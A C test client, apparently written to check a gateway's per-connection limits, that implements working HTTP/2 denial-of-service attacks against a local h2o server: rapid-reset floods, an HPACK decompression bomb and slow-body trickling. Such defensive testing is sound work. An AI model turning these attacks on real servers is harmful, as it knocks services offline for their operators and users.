/*
 * h2abuse.c - a raw-frame client that attacks one connection the ways Debian's h2o 2.2.5 does not
 * stop by itself, for the per-connection budgets of gateway/guard.c. It speaks h2c with prior
 * knowledge (or HTTP/1.1) over a plain TCP socket to 127.0.0.1 and builds every frame by hand.
 * Header blocks use only stateless HPACK representations (static-table indices and literals without
 * indexing), so one block can be sent any number of times; the bomb adds one entry to the dynamic
 * table on purpose.
 *
 *   h2abuse rapid-reset PORT N PATH           N HEADERS(END_STREAM)+RST_STREAM(CANCEL) pairs
 *   h2abuse hpack-bomb PORT STREAMS            a zero window, then STREAMS header blocks of ~400 KB
 *                                              that each reference one 4 KB table entry per byte
 *   h2abuse slow-body PORT SECONDS [MS]        h2 POST /fx/echo, content-length 100, a DATA byte
 *                                              every MS (5000) ms, for at most SECONDS
 *   h2abuse slow-body-h1 PORT SECONDS [MS]     the same over HTTP/1.1, a byte every MS (1000) ms
 *   h2abuse cancel PORT N SLOW_PATH MS M PATH  what a legitimate client does: N GETs of SLOW_PATH
 *                                              cancelled after 200 ms, then MS ms of quiet with a
 *                                              PING every second, then M GETs of PATH
 *
 * It prints `key value` lines: what it sent, what came back, and whether and when (ms after the
 * connection was made) the server closed the connection. The exit status is 0 when the attack could
 * be carried out (whatever the server did), 2 on bad arguments, 1 when it could not connect.
 *
 * tests/integration/70-h2-abuse.c includes this file with H2ABUSE_NO_MAIN defined and calls the
 * h2a_* functions directly.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define H2A_FRAME_DATA 0
#define H2A_FRAME_HEADERS 1
#define H2A_FRAME_RST_STREAM 3
#define H2A_FRAME_SETTINGS 4
#define H2A_FRAME_PING 6
#define H2A_FRAME_GOAWAY 7
#define H2A_FRAME_CONTINUATION 9
#define H2A_FLAG_END_STREAM 0x1
#define H2A_FLAG_END_HEADERS 0x4
#define H2A_ERROR_CANCEL 8
/* The largest frame payload a peer must accept without SETTINGS_MAX_FRAME_SIZE. */
#define H2A_MAX_FRAME 16384
/* The header block of one bomb request: under h2o 2.2.5's H2O_MAX_REQLEN (417,792 bytes). */
#define H2A_BOMB_BLOCK (400 * 1024)
/* The value of the bomb's table entry: name + value + 32 fits h2o's 4096-byte table. */
#define H2A_BOMB_VALUE 4000

/* What an attack did and saw. */
typedef struct st_h2a_result_t {
    const char *mode;
    int connected;
    uint64_t sent_bytes;
    uint64_t units_sent; /* rapid-reset: pairs; hpack-bomb: streams; slow-body: body bytes; cancel: requests */
    uint64_t received_bytes;
    uint64_t responses;       /* HEADERS frames (h2) or status lines (HTTP/1.1) from the server */
    uint64_t resets_received; /* RST_STREAM frames from the server */
    uint64_t goaways;
    uint32_t goaway_error;
    int closed;              /* the server closed the connection (EOF, reset, or a failed write) */
    int64_t closed_after_ms; /* since the connection was made; -1 when not closed */
    int64_t elapsed_ms;      /* the whole attack, until closed or given up */
} h2a_result_t;

/* A connection to the server and an incremental parser of the frames it sends. */
typedef struct st_h2a_conn_t {
    int fd;
    int h2;
    int64_t t0_ms;
    h2a_result_t *res;
    uint8_t head[9];
    size_t head_len;
    uint32_t payload_left;
    uint8_t type;
    uint8_t goaway_payload[8];
    size_t goaway_len;
} h2a_conn_t;

static int64_t h2a_now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void h2a_mark_closed(h2a_conn_t *c)
{
    if (c->res->closed)
        return;
    c->res->closed = 1;
    c->res->closed_after_ms = h2a_now_ms() - c->t0_ms;
}

/* Counts the frames (or HTTP/1.1 status lines) in what the server sent. */
static void h2a_parse(h2a_conn_t *c, const uint8_t *p, size_t n)
{
    if (!c->h2) {
        for (size_t i = 0; i + 5 <= n; i++)
            if (memcmp(p + i, "HTTP/", 5) == 0)
                c->res->responses++;
        return;
    }
    while (n > 0) {
        if (c->head_len < 9) {
            size_t take = 9 - c->head_len < n ? 9 - c->head_len : n;
            memcpy(c->head + c->head_len, p, take);
            c->head_len += take;
            p += take;
            n -= take;
            if (c->head_len < 9)
                return;
            c->payload_left = (uint32_t)c->head[0] << 16 | (uint32_t)c->head[1] << 8 | c->head[2];
            c->type = c->head[3];
            c->goaway_len = 0;
            if (c->type == H2A_FRAME_HEADERS)
                c->res->responses++;
            else if (c->type == H2A_FRAME_RST_STREAM)
                c->res->resets_received++;
            else if (c->type == H2A_FRAME_GOAWAY)
                c->res->goaways++;
        }
        size_t take = c->payload_left < n ? c->payload_left : n;
        if (c->type == H2A_FRAME_GOAWAY) {
            for (size_t i = 0; i < take && c->goaway_len < sizeof(c->goaway_payload); i++)
                c->goaway_payload[c->goaway_len++] = p[i];
            if (c->goaway_len == sizeof(c->goaway_payload))
                c->res->goaway_error = (uint32_t)c->goaway_payload[4] << 24 | (uint32_t)c->goaway_payload[5] << 16 |
                                       (uint32_t)c->goaway_payload[6] << 8 | c->goaway_payload[7];
        }
        c->payload_left -= (uint32_t)take;
        p += take;
        n -= take;
        if (c->payload_left == 0)
            c->head_len = 0;
    }
}

/* Reads whatever is there without blocking. Returns -1 once the server closed the connection. */
static int h2a_read_some(h2a_conn_t *c)
{
    uint8_t buf[65536];
    for (;;) {
        ssize_t r = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
        if (r > 0) {
            c->res->received_bytes += (uint64_t)r;
            h2a_parse(c, buf, (size_t)r);
            continue;
        }
        if (r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            return 0;
        if (r < 0 && errno == EINTR)
            continue;
        h2a_mark_closed(c);
        return -1;
    }
}

/* Writes all of buf while reading and discarding what the server sends, waiting at most
 * timeout_ms for room. Returns how many bytes were written: fewer than len when the server closed
 * the connection or the time ran out. */
static size_t h2a_send(h2a_conn_t *c, const void *buf, size_t len, int timeout_ms)
{
    const uint8_t *p = buf;
    size_t done = 0;
    int64_t deadline = h2a_now_ms() + timeout_ms;
    while (done < len && !c->res->closed) {
        ssize_t w = send(c->fd, p + done, len - done, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (w > 0) {
            done += (size_t)w;
            c->res->sent_bytes += (uint64_t)w;
            continue;
        }
        if (w < 0 && errno == EINTR)
            continue;
        if (w < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
            h2a_mark_closed(c);
            break;
        }
        if (h2a_read_some(c) != 0)
            break;
        int64_t left = deadline - h2a_now_ms();
        if (left <= 0)
            break;
        struct pollfd pfd = {.fd = c->fd, .events = POLLIN | POLLOUT};
        poll(&pfd, 1, left < 100 ? (int)left : 100);
    }
    return done;
}

/* Reads until the server closes the connection, nothing arrives for idle_ms, or max_ms passed. */
static void h2a_drain(h2a_conn_t *c, int idle_ms, int max_ms)
{
    int64_t end = h2a_now_ms() + max_ms, last = h2a_now_ms();
    while (!c->res->closed) {
        int64_t now = h2a_now_ms();
        if (now >= end || now - last >= idle_ms)
            break;
        struct pollfd pfd = {.fd = c->fd, .events = POLLIN};
        if (poll(&pfd, 1, 50) > 0) {
            uint64_t before = c->res->received_bytes;
            if (h2a_read_some(c) != 0)
                break;
            if (c->res->received_bytes != before)
                last = h2a_now_ms();
        }
    }
}

/* Waits ms while reading; returns -1 as soon as the server closed the connection. */
static int h2a_wait(h2a_conn_t *c, int ms)
{
    int64_t end = h2a_now_ms() + ms;
    while (!c->res->closed) {
        int64_t left = end - h2a_now_ms();
        if (left <= 0)
            return 0;
        struct pollfd pfd = {.fd = c->fd, .events = POLLIN};
        if (poll(&pfd, 1, (int)left) > 0 && h2a_read_some(c) != 0)
            break;
    }
    return -1;
}

static int h2a_connect(h2a_conn_t *c, h2a_result_t *res, const char *mode, int port, int h2)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int one = 1;
    memset(res, 0, sizeof(*res));
    memset(c, 0, sizeof(*c));
    res->mode = mode;
    res->closed_after_ms = -1;
    c->res = res;
    c->h2 = h2;
    if ((c->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0)
        return -1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    if (connect(c->fd, (struct sockaddr *)&addr, sizeof(addr)) != 0) {
        close(c->fd);
        c->fd = -1;
        return -1;
    }
    fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
    c->t0_ms = h2a_now_ms();
    res->connected = 1;
    return 0;
}

static void h2a_finish(h2a_conn_t *c)
{
    c->res->elapsed_ms = h2a_now_ms() - c->t0_ms;
    if (c->fd >= 0)
        close(c->fd);
    c->fd = -1;
}

/* ---- frames ----------------------------------------------------------------------------------- */

static uint8_t *h2a_frame_head(uint8_t *p, size_t len, uint8_t type, uint8_t flags, uint32_t stream_id)
{
    *p++ = (uint8_t)(len >> 16);
    *p++ = (uint8_t)(len >> 8);
    *p++ = (uint8_t)len;
    *p++ = type;
    *p++ = flags;
    *p++ = (uint8_t)(stream_id >> 24 & 0x7f);
    *p++ = (uint8_t)(stream_id >> 16);
    *p++ = (uint8_t)(stream_id >> 8);
    *p++ = (uint8_t)stream_id;
    return p;
}

/* An HPACK integer with an n-bit prefix; first holds the representation's flag bits. */
static uint8_t *h2a_hpack_int(uint8_t *p, uint8_t first, int n, size_t v)
{
    size_t max = ((size_t)1 << n) - 1;
    if (v < max) {
        *p++ = (uint8_t)(first | v);
        return p;
    }
    *p++ = (uint8_t)(first | max);
    for (v -= max; v >= 128; v >>= 7)
        *p++ = (uint8_t)(v % 128 + 128);
    *p++ = (uint8_t)v;
    return p;
}

/* A literal header field without indexing whose name is static-table entry name_index. */
static uint8_t *h2a_hpack_literal(uint8_t *p, size_t name_index, const char *value)
{
    size_t len = strlen(value);
    p = h2a_hpack_int(p, 0x00, 4, name_index);
    p = h2a_hpack_int(p, 0x00, 7, len);
    memcpy(p, value, len);
    return p + len;
}

/* The pseudo-headers of a request to 127.0.0.1 (and the content headers of a POST). Needs
 * 64 + strlen(path) bytes. */
static uint8_t *h2a_request_block(uint8_t *p, int post, const char *path)
{
    *p++ = post ? 0x83 : 0x82;                /* :method POST / GET */
    *p++ = 0x86;                              /* :scheme http */
    p = h2a_hpack_literal(p, 4, path);        /* :path */
    p = h2a_hpack_literal(p, 1, "127.0.0.1"); /* :authority */
    if (post) {
        p = h2a_hpack_literal(p, 31, "application/json"); /* content-type */
        p = h2a_hpack_literal(p, 28, "100");              /* content-length */
    }
    return p;
}

static const char h2a_preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/* Sends the connection preface and a SETTINGS frame with initial_window (or none when negative). */
static int h2a_start_h2(h2a_conn_t *c, long initial_window)
{
    uint8_t buf[64], *p = buf;
    memcpy(p, h2a_preface, sizeof(h2a_preface) - 1);
    p += sizeof(h2a_preface) - 1;
    p = h2a_frame_head(p, initial_window >= 0 ? 6 : 0, H2A_FRAME_SETTINGS, 0, 0);
    if (initial_window >= 0) {
        *p++ = 0;
        *p++ = 4; /* SETTINGS_INITIAL_WINDOW_SIZE */
        *p++ = (uint8_t)(initial_window >> 24);
        *p++ = (uint8_t)(initial_window >> 16);
        *p++ = (uint8_t)(initial_window >> 8);
        *p++ = (uint8_t)initial_window;
    }
    size_t len = (size_t)(p - buf);
    return h2a_send(c, buf, len, 10000) == len ? 0 : -1;
}

/* ---- the attacks ------------------------------------------------------------------------------ */

/* Each returns 0 once it has carried out its exchange (*res tells what happened), or -1 when it could
 * not connect or got a path longer than 256 bytes (*res is zeroed). */

/* Sends n HEADERS(END_STREAM) + RST_STREAM(CANCEL) pairs for GET path as fast as the socket takes
 * them, then reads until the server closes or goes quiet for 2 s. */
static int h2a_rapid_reset(int port, uint64_t n, const char *path, h2a_result_t *res)
{
    enum { BATCH = 1024 };
    h2a_conn_t c;
    uint8_t block[512];
    memset(res, 0, sizeof(*res));
    if (strlen(path) > 256)
        return -1;
    if (h2a_connect(&c, res, "rapid-reset", port, 1) != 0)
        return -1;
    size_t block_len = (size_t)(h2a_request_block(block, 0, path) - block);
    size_t pair_len = 9 + block_len + 9 + 4;
    uint8_t *batch = malloc(pair_len * BATCH);
    if (batch == NULL || h2a_start_h2(&c, -1) != 0)
        goto Done;
    uint32_t stream_id = 1;
    for (uint64_t sent = 0; sent < n && !res->closed;) {
        size_t k = n - sent < BATCH ? (size_t)(n - sent) : BATCH;
        uint8_t *p = batch;
        for (size_t i = 0; i < k; i++, stream_id += 2) {
            p = h2a_frame_head(p, block_len, H2A_FRAME_HEADERS, H2A_FLAG_END_STREAM | H2A_FLAG_END_HEADERS, stream_id);
            memcpy(p, block, block_len);
            p += block_len;
            p = h2a_frame_head(p, 4, H2A_FRAME_RST_STREAM, 0, stream_id);
            *p++ = 0;
            *p++ = 0;
            *p++ = 0;
            *p++ = H2A_ERROR_CANCEL;
        }
        size_t w = h2a_send(&c, batch, (size_t)(p - batch), 10000);
        /* a pair counts as sent once both of its frames were */
        res->units_sent = sent + w / pair_len;
        if (w < (size_t)(p - batch))
            break;
        sent += k;
    }
    h2a_drain(&c, 2000, 20000);
Done:
    free(batch);
    h2a_finish(&c);
    return 0;
}

/* Sends a zero initial window, then streams requests whose header blocks reference one 4 KB
 * dynamic-table entry once per byte (~400,000 times each), then reads until the server closes or
 * goes quiet for 3 s. */
static int h2a_hpack_bomb(int port, unsigned streams, h2a_result_t *res)
{
    h2a_conn_t c;
    if (h2a_connect(&c, res, "hpack-bomb", port, 1) != 0)
        return -1;
    uint8_t *block = malloc(H2A_BOMB_BLOCK), *frames = malloc(H2A_BOMB_BLOCK + 9 * (H2A_BOMB_BLOCK / H2A_MAX_FRAME + 2));
    if (block == NULL || frames == NULL || h2a_start_h2(&c, 0) != 0)
        goto Done;
    for (unsigned s = 0; s < streams && !res->closed; s++) {
        uint32_t stream_id = 1 + 2 * s;
        uint8_t *p = h2a_request_block(block, 0, "/examples/hello");
        if (s == 0) {
            /* literal with incremental indexing, new name: becomes dynamic-table index 62 */
            p = h2a_hpack_int(p, 0x40, 6, 0);
            p = h2a_hpack_int(p, 0x00, 7, 6);
            memcpy(p, "x-bomb", 6);
            p += 6;
            p = h2a_hpack_int(p, 0x00, 7, H2A_BOMB_VALUE);
            memset(p, 'a', H2A_BOMB_VALUE);
            p += H2A_BOMB_VALUE;
        }
        /* indexed header field 62, one byte per reference */
        memset(p, 0x80 | 62, (size_t)(block + H2A_BOMB_BLOCK - p));
        size_t left = H2A_BOMB_BLOCK, off = 0;
        uint8_t *f = frames;
        while (left > 0) {
            size_t len = left < H2A_MAX_FRAME ? left : H2A_MAX_FRAME;
            uint8_t flags = left == len ? H2A_FLAG_END_HEADERS : 0;
            if (off == 0)
                f = h2a_frame_head(f, len, H2A_FRAME_HEADERS, flags | H2A_FLAG_END_STREAM, stream_id);
            else
                f = h2a_frame_head(f, len, H2A_FRAME_CONTINUATION, flags, stream_id);
            memcpy(f, block + off, len);
            f += len;
            off += len;
            left -= len;
        }
        if (h2a_send(&c, frames, (size_t)(f - frames), 10000) < (size_t)(f - frames))
            break;
        res->units_sent++;
    }
    h2a_drain(&c, 3000, 20000);
Done:
    free(block);
    free(frames);
    h2a_finish(&c);
    return 0;
}

/* Starts POST /fx/echo with content-length 100 and sends one body byte every interval_ms, for at
 * most seconds or until the server closes the connection. */
static int h2a_slow_body(int port, int seconds, int interval_ms, int h2, h2a_result_t *res)
{
    h2a_conn_t c;
    uint8_t buf[256], *p = buf;
    if (h2a_connect(&c, res, h2 ? "slow-body" : "slow-body-h1", port, h2) != 0)
        return -1;
    int64_t end = c.t0_ms + (int64_t)seconds * 1000;
    if (h2) {
        if (h2a_start_h2(&c, -1) != 0)
            goto Done;
        uint8_t block[128];
        size_t block_len = (size_t)(h2a_request_block(block, 1, "/fx/echo") - block);
        p = h2a_frame_head(p, block_len, H2A_FRAME_HEADERS, H2A_FLAG_END_HEADERS, 1);
        memcpy(p, block, block_len);
        p += block_len;
    } else {
        p += sprintf((char *)p, "POST /fx/echo HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                                "Content-Length: 100\r\n\r\n");
    }
    if (h2a_send(&c, buf, (size_t)(p - buf), 10000) < (size_t)(p - buf))
        goto Done;
    while (res->units_sent < 99 && h2a_now_ms() < end) {
        p = buf;
        if (h2)
            p = h2a_frame_head(p, 1, H2A_FRAME_DATA, 0, 1);
        *p++ = ' ';
        if (h2a_send(&c, buf, (size_t)(p - buf), 10000) < (size_t)(p - buf))
            break;
        res->units_sent++;
        int64_t left = end - h2a_now_ms();
        if (h2a_wait(&c, (int)(left < interval_ms ? left : interval_ms)) != 0)
            break;
    }
Done:
    h2a_finish(&c);
    return 0;
}

/* Sends n GETs of slow_path, resets them 200 ms later, stays quiet for pause_ms (but for a PING
 * every second), then sends m GETs of path and reads until m responses arrived, the server closed
 * the connection, or 10 s passed. */
static int h2a_cancel(int port, unsigned n, const char *slow_path, int pause_ms, unsigned m, const char *path, h2a_result_t *res)
{
    h2a_conn_t c;
    uint8_t block[512], frame[600];
    uint32_t stream_id = 1;
    memset(res, 0, sizeof(*res));
    if (strlen(slow_path) > 256 || strlen(path) > 256)
        return -1;
    if (h2a_connect(&c, res, "cancel", port, 1) != 0)
        return -1;
    if (h2a_start_h2(&c, -1) != 0)
        goto Done;
    size_t block_len = (size_t)(h2a_request_block(block, 0, slow_path) - block);
    for (unsigned i = 0; i < n; i++, stream_id += 2) {
        uint8_t *p = h2a_frame_head(frame, block_len, H2A_FRAME_HEADERS, H2A_FLAG_END_STREAM | H2A_FLAG_END_HEADERS, stream_id);
        memcpy(p, block, block_len);
        p += block_len;
        if (h2a_send(&c, frame, (size_t)(p - frame), 10000) < (size_t)(p - frame))
            goto Done;
        res->units_sent++;
    }
    if (h2a_wait(&c, 200) != 0)
        goto Done;
    for (uint32_t id = 1; id < stream_id; id += 2) {
        uint8_t *p = h2a_frame_head(frame, 4, H2A_FRAME_RST_STREAM, 0, id);
        memcpy(p, "\0\0\0\x08", 4);
        if (h2a_send(&c, frame, 13, 10000) < 13)
            goto Done;
    }
    for (int waited = 0; waited < pause_ms; waited += 1000) {
        if (h2a_wait(&c, pause_ms - waited < 1000 ? pause_ms - waited : 1000) != 0)
            goto Done;
        uint8_t *p = h2a_frame_head(frame, 8, H2A_FRAME_PING, 0, 0);
        memcpy(p, "keepaliv", 8);
        if (h2a_send(&c, frame, 17, 10000) < 17)
            goto Done;
    }
    uint64_t before = res->responses;
    block_len = (size_t)(h2a_request_block(block, 0, path) - block);
    for (unsigned i = 0; i < m; i++, stream_id += 2) {
        uint8_t *p = h2a_frame_head(frame, block_len, H2A_FRAME_HEADERS, H2A_FLAG_END_STREAM | H2A_FLAG_END_HEADERS, stream_id);
        memcpy(p, block, block_len);
        p += block_len;
        if (h2a_send(&c, frame, (size_t)(p - frame), 10000) < (size_t)(p - frame))
            goto Done;
        res->units_sent++;
    }
    int64_t end = h2a_now_ms() + 10000;
    while (res->responses - before < m && !res->closed && h2a_now_ms() < end)
        h2a_wait(&c, 50);
Done:
    h2a_finish(&c);
    return 0;
}

#ifndef H2ABUSE_NO_MAIN

static void print_result(const h2a_result_t *r)
{
    printf("mode %s\nconnected %d\nsent_bytes %llu\n", r->mode, r->connected, (unsigned long long)r->sent_bytes);
    const char *unit = strcmp(r->mode, "rapid-reset") == 0  ? "pairs_sent"
                       : strcmp(r->mode, "hpack-bomb") == 0 ? "streams_sent"
                       : strcmp(r->mode, "cancel") == 0     ? "requests_sent"
                                                            : "body_bytes_sent";
    printf("%s %llu\n", unit, (unsigned long long)r->units_sent);
    printf("received_bytes %llu\nresponses %llu\nresets_received %llu\ngoaways %llu\ngoaway_error %u\n",
           (unsigned long long)r->received_bytes, (unsigned long long)r->responses, (unsigned long long)r->resets_received,
           (unsigned long long)r->goaways, r->goaway_error);
    printf("closed %d\nclosed_after_ms %lld\nelapsed_ms %lld\n", r->closed, (long long)r->closed_after_ms,
           (long long)r->elapsed_ms);
}

static int usage(void)
{
    fprintf(stderr, "usage: h2abuse rapid-reset PORT N PATH\n"
                    "       h2abuse hpack-bomb PORT STREAMS\n"
                    "       h2abuse slow-body PORT SECONDS [INTERVAL_MS]\n"
                    "       h2abuse slow-body-h1 PORT SECONDS [INTERVAL_MS]\n"
                    "       h2abuse cancel PORT N SLOW_PATH PAUSE_MS M PATH\n");
    return 2;
}

int main(int argc, char **argv)
{
    h2a_result_t res;
    int ret;
    if (argc < 4)
        return usage();
    int port = atoi(argv[2]);
    if (port <= 0 || port > 65535)
        return usage();
    if (strcmp(argv[1], "rapid-reset") == 0 && argc == 5) {
        ret = h2a_rapid_reset(port, strtoull(argv[3], NULL, 10), argv[4], &res);
    } else if (strcmp(argv[1], "hpack-bomb") == 0 && argc == 4) {
        ret = h2a_hpack_bomb(port, (unsigned)atoi(argv[3]), &res);
    } else if ((strcmp(argv[1], "slow-body") == 0 || strcmp(argv[1], "slow-body-h1") == 0) && argc <= 5) {
        int h2 = strcmp(argv[1], "slow-body") == 0;
        int interval = argc == 5 ? atoi(argv[4]) : h2 ? 5000 : 1000;
        if (interval <= 0)
            return usage();
        ret = h2a_slow_body(port, atoi(argv[3]), interval, h2, &res);
    } else if (strcmp(argv[1], "cancel") == 0 && argc == 8) {
        ret = h2a_cancel(port, (unsigned)atoi(argv[3]), argv[4], atoi(argv[5]), (unsigned)atoi(argv[6]), argv[7], &res);
    } else {
        return usage();
    }
    if (ret != 0) {
        fprintf(stderr, "h2abuse: cannot connect to 127.0.0.1:%d: %s\n", port, strerror(errno));
        return 1;
    }
    print_result(&res);
    return 0;
}

#endif
